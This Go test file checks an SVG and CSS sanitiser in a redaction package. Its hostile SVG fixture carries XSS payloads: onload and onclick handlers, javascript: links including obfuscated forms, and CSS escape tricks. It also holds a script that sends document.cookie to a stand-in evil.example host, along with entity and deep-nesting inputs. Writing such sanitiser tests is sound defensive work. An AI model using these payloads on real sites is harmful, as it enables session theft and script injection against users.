package redact

import (
	"bytes"
	"encoding/base64"
	"encoding/xml"
	"io"
	"strings"
	"testing"
)

// wellFormed reports whether b parses as XML to its end.
func wellFormed(b []byte) error {
	d := xml.NewDecoder(bytes.NewReader(b))
	for {
		if _, err := d.Token(); err == io.EOF {
			return nil
		} else if err != nil {
			return err
		}
	}
}

func TestSVGMatplotlib(t *testing.T) {
	in := readTestdata(t, "chart.svg")
	s := allOn(t)
	out, typ, err := s.Artifact("chart.svg", in)
	if err != nil || typ != TypeSVG {
		t.Fatal(err, typ)
	}
	if err := wellFormed(out); err != nil {
		t.Fatalf("output is not XML: %v", err)
	}
	for _, keep := range []string{"<path", "<text", ">east</text>", `xlink:href="#`, "<clipPath", `xmlns="http://www.w3.org/2000/svg"`, "stroke-linejoin"} {
		if !bytes.Contains(out, []byte(keep)) {
			t.Errorf("lost %q", keep)
		}
	}
	if bytes.Contains(out, []byte("metadata")) || bytes.Contains(out, []byte("DOCTYPE")) {
		t.Error("metadata or DOCTYPE kept")
	}
	if w := s.Report().Warnings; len(w) != 0 {
		t.Errorf("warnings for a plain chart: %q", w)
	}
	// With a byte order mark, the same result.
	bom, _, err := s.Artifact("chart-bom.svg", append([]byte("\xef\xbb\xbf"), in...))
	if err != nil || !bytes.Equal(bom, out) {
		t.Errorf("with BOM: %v", err)
	}
}

func TestSVGHostile(t *testing.T) {
	png := readTestdata(t, "chart.png")
	pngWithText := withChunkBeforeIEND(png, pngChunk("tEXt", []byte("Comment\x00dave@example.com")))
	in := `<?xml version="1.0"?>
<?xml-stylesheet href="http://evil.example/s.css"?>
<!DOCTYPE svg [<!ENTITY x "y">]>
<!-- rows: alice@example.com -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:html="http://www.w3.org/1999/xhtml" onload="alert(1)" width="10" height="10">
  <script>fetch('http://evil.example/?d='+document.cookie)</script>
  <svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(2)</svg:script>
  <style>@import url(http://evil.example/x.css); rect{fill:red}</style>
  <style>rect{background:url( "http://evil.example/p.png" ); fill:url(#grad)}</style>
  <foreignObject><html:iframe src="http://evil.example/"/></foreignObject>
  <a href="javascript:alert(3)"><rect width="1" height="1" onclick="alert(4)" OnMouseOver="x()"/></a>
  <a xlink:href=" JaVa&#x09;script:alert(5)"><circle r="1"/></a>
  <use href="http://evil.example/sprite.svg#icon"/>
  <use xlink:href="#ok"/>
  <image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>
  <image xlink:href="data:image/png;base64,` + base64.StdEncoding.EncodeToString(pngWithText) + `"/>
  <rect fill="url(http://evil.example/f)" style="fill:url('#g')" filter="url(#f)"/>
  <rect style="background:u\72l(http://evil.example/)"/>
  <animate attributeName="href" to="javascript:alert(6)"/>
  <set attributeName="onload" to="alert(7)"/>
  <feImage href="http://evil.example/i.png"/>
  <text x="1">card 4111 1111 1111 1111 of bob@example.com</text>
  <html:script>alert(8)</html:script>
</svg>`
	s := allOn(t)
	out, typ, err := s.Artifact("evil.svg", []byte(in))
	if err != nil || typ != TypeSVG {
		t.Fatal(err)
	}
	if err := wellFormed(out); err != nil {
		t.Fatalf("output is not XML: %v\n%s", err, out)
	}
	low := strings.ToLower(string(out))
	for _, leak := range []string{"script", "alert", "evil.example", "onload", "onclick", "onmouseover", "foreignobject",
		"iframe", "@import", "animate", "<set", "feimage", "entity", "doctype", "<!--", "alice@", "bob@", "4111", "data:image/svg", "xhtml", "dave@"} {
		if strings.Contains(low, leak) {
			t.Errorf("%q survived:\n%s", leak, out)
		}
	}
	for _, keep := range []string{`fill:url(#grad)`, `xlink:href="#ok"`, `filter="url(#f)"`, `style="fill:url(&#39;#g&#39;)"`, "[bank_card] of [email]", `fill="none"`, "data:image/png;base64,"} {
		if !strings.Contains(string(out), keep) && !strings.Contains(string(out), strings.ReplaceAll(keep, "&#39;", "'")) {
			t.Errorf("lost %q:\n%s", keep, out)
		}
	}
	w := strings.Join(s.Report().Warnings, "\n")
	for _, want := range []string{"unsafe elements", "event handlers", "external references", "unsafe styles"} {
		if !strings.Contains(w, want) {
			t.Errorf("warning lacks %q: %s", want, w)
		}
	}
}

func TestSVGRefused(t *testing.T) {
	cases := map[string]string{
		"not xml":      `<svg><rect></svg>`,
		"html root":    `<html><svg/></html>`,
		"other root":   `<?xml version="1.0"?><doc><svg/></doc>`,
		"entity":       `<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>`,
		"deep":         `<svg>` + strings.Repeat("<g>", 300) + strings.Repeat("</g>", 300) + `</svg>`,
		"two roots":    `<svg></svg><svg></svg>`,
		"utf-16":       `<?xml version="1.0" encoding="UTF-16"?><svg></svg>`,
		"unterminated": `<svg><g>`,
	}
	for name, in := range cases {
		s := allOn(t)
		if _, _, err := s.Artifact("x.svg", []byte(in)); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

func TestCleanCSS(t *testing.T) {
	var rep svgReport
	for in, want := range map[string]string{
		"fill: url(#a); stroke: red":        "fill: url(#a); stroke: red",
		"background: url(http://x/)":        "background: none",
		"background: URL( 'data:x' ) ; a:b": "background: none ; a:b",
	} {
		if got, ok := cleanCSS(in, &rep); !ok || got != want {
			t.Errorf("%q: %q %v", in, got, ok)
		}
	}
	for _, in := range []string{"@import 'x.css'", `a{b:\75rl(x)}`, "x:expression(alert(1))", "a{b:image-set('x.png' 1x)}", "url(#a"} {
		if _, ok := cleanCSS(in, &rep); ok {
			t.Errorf("%q accepted", in)
		}
	}
}
